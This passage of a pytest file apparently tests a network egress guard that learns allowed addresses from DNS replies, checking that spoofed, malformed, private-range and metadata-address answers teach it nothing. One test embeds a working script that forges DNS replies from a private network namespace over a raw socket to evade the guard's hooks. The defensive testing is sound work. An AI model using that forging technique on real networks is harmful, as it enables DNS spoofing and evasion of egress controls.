    guard.lab.dns.script(LIAR, "raw", **raw(record(pointer(12), "192.0.2.78")))      # the same way, a good one
    guard.python(SEND, "10.0.0.2", 53, query(LIAR).hex())
    assert learned(guard, "*.sub.lab.example") == {"192.0.2.78"}


@pytest.mark.parametrize("kind,settings", [
    ("answer", {"a": ["10.9.9.9"]}), ("answer", {"a": ["127.0.0.1"]}), ("answer", {"a": ["169.254.169.254"]}),
    ("answer", {"a": ["224.0.0.5"]}), ("wrong_name", {"a": ["192.0.2.77"]}), ("wrong_id", {"a": ["192.0.2.77"]}),
    ("wrong_question", {"a": ["192.0.2.77"]}), ("cut", {"a": ["192.0.2.77"]})])
def test_answer_that_may_not_teach_teaches_nothing(guard, kind, settings):
    guard.lab.dns.script("liar.sub.lab.example", kind, **settings)
    assert guard.ohguard("allow", "*.sub.lab.example").returncode == 0
    assert guard.python(SEND, "10.0.0.2", 53, query("liar.sub.lab.example").hex()).stdout.startswith("answered")
    assert learned(guard, "*.sub.lab.example") == set()
    guard.lab.dns.script("liar.sub.lab.example", "answer", a=["192.0.2.78"])        # the same way, a good one
    guard.python(SEND, "10.0.0.2", 53, query("liar.sub.lab.example").hex())
    assert learned(guard, "*.sub.lab.example") == {"192.0.2.78"}


def test_private_range_is_learned_for_its_names_alone(guard):
    guard.load(dns="private = *.inner.lab.example 10.9.0.0/16\nprivate = one.sub.lab.example 10.8.8.8\n"
                   "private = *.lab.example 169.254.169.254")
    guard.events()
    assert guard.ohguard("allow", "*.sub.lab.example", "*.inner.lab.example").returncode == 0
    for name, addresses in {"a.inner.lab.example": ["10.9.0.0", "10.9.255.255", "10.8.255.255", "10.10.0.0"],
                            "b.sub.lab.example": ["10.9.1.1", "10.8.8.8", "169.254.169.254"],
                            "one.sub.lab.example": ["10.8.8.8", "10.8.8.9", "192.0.2.79"]}.items():
        guard.lab.dns.script(name, "answer", a=addresses)
        assert guard.python(SEND, "10.0.0.2", 53, query(name).hex()).stdout.startswith("answered")
    assert learned(guard, "*.inner.lab.example") == {"10.9.0.0", "10.9.255.255"}
    assert learned(guard, "*.sub.lab.example") == {"10.8.8.8", "192.0.2.79"}
    assert guard.events() == []


def test_name_that_may_only_be_asked_for_teaches_nothing(guard):
    guard.lab.server.run(["dig", "+time=1", "@10.0.0.2", "asked.lab.example"], guarded=True)
    assert curl(guard, "asked.lab.example", "203.0.113.80", "-k").returncode == 7
    assert {e["reason"] for e in guard.events()} == {"address-not-allowed"}


# Answers its own query for argv[1], from the resolver's address in a second namespace.
FORGE = r"""
import ctypes, os, signal, socket, struct, subprocess, sys
def ip(*words):
    subprocess.run(["ip", *words], check=True)
here, child = os.pipe(), os.pipe()
pid = os.fork()
if not pid:
    assert not ctypes.CDLL(None).unshare(0x40000000)
    os.write(here[1], b"x")
    os.close(child[1])
    assert os.read(child[0], 1)
    ip("addr", "add", "10.0.0.2/24", "dev", "theirs")
    ip("link", "set", "theirs", "up")
    signal.alarm(10)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))      # no socket hook sees that one
    s.bind(("theirs", 0x0800))
    os.write(here[1], b"x")
    f = s.recv(2000)
    q = f[42:]
    answer = (q[:2] + bytes.fromhex("81800001000100000000") + q[12:] + bytes.fromhex("c00c00010001000001000004") +
              socket.inet_aton("203.0.113.66"))
    head = bytes([0x45, 0]) + struct.pack("!H", 28 + len(answer)) + bytes(4) + bytes([64, 17, 0, 0])
    head += f[30:34] + f[26:30]
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xffff) + (total >> 16)
    head = head[:10] + struct.pack("!H", 0xffff - (total & 0xffff) - (total >> 16)) + head[12:]
    s.send(f[6:12] + f[:6] + f[12:14] + head + f[36:38] + f[34:36] + struct.pack("!HH", 8 + len(answer), 0) + answer)
    os._exit(0)
os.close(here[1])
os.read(here[0], 1)
ip("link", "add", "ours", "type", "veth", "peer", "name", "theirs", "netns", str(pid))
ip("addr", "add", "10.0.0.7/24", "dev", "ours")
ip("link", "set", "ours", "up")
os.write(child[1], b"x")
os.read(here[0], 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(8)
s.sendto(bytes.fromhex(sys.argv[1]), ("10.0.0.2", 53))
print("answered", len(s.recv(512)))
"""


def test_answer_in_a_namespace_of_the_workloads_own_teaches_nothing(guard):
    """Whoever can make a network namespace could otherwise be its own resolver, and let any address in."""
    r = guard.lab.server.run(["unshare", "-n", "/usr/bin/python3", "-c", FORGE, query(ALLOWED).hex()], guarded=True)
    assert r.stdout == "answered 48\n", r.stdout + r.stderr
    assert learned(guard, ALLOWED) == set()
